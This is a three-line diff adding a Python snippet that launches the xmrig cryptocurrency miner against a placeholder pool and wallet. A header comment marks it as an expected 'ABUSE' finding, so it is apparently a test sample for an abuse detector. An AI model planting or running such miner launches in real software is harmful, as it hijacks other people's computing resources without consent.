@@ -1,0 +1,3 @@
+# expect: none ABUSE
+import subprocess
+subprocess.Popen(["./xmrig", "-o", "pool:3333", "-u", "wallet"])
